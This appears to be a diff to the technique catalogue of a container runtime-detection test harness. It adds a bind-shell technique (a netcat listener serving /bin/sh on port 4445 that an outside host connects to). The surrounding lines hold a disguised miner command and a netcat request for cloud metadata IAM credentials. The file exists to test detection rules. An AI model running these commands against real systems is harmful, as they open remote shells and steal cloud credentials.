@@ -25,6 +25,8 @@ export interface Technique {
   limitMs: number;
   /** Needs the workload out of learning (baseline rules). */
   monitoring?: boolean;
+  /** Then the attack host connects to this port of the container and sends `line` (inbound). */
+  outside?: { port: number; line: string };
 }
 
 const miner = 'cp /bin/busybox /tmp/xmrig && (exec -a sleep /tmp/xmrig 8 &)';
@@ -40,6 +42,18 @@ export const TECHNIQUES: Technique[] = [
     action: `printf 'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\r\\n\\r\\n' | nc -w 2 ${METADATA_IP} 80`,
     twin: 'twin-meta',
     limitMs: 2000,
+  },
+  {
+    id: 'bind-shell',
+    technique: 'a bind shell (nc -l -e /bin/sh) the attacker connects to from outside',
+    rule: 'unexpected_inbound',
+    mitre: 'T1133',
+    container: 'atk-inbound',
+    action: '(nc -l -p 4445 -e /bin/sh &); sleep 3',
+    outside: { port: 4445, line: 'echo pwned\n' },
+    twin: 'twin-inbound',
+    limitMs: 2000,
+    monitoring: true,
   },
   {
     id: 'scan',
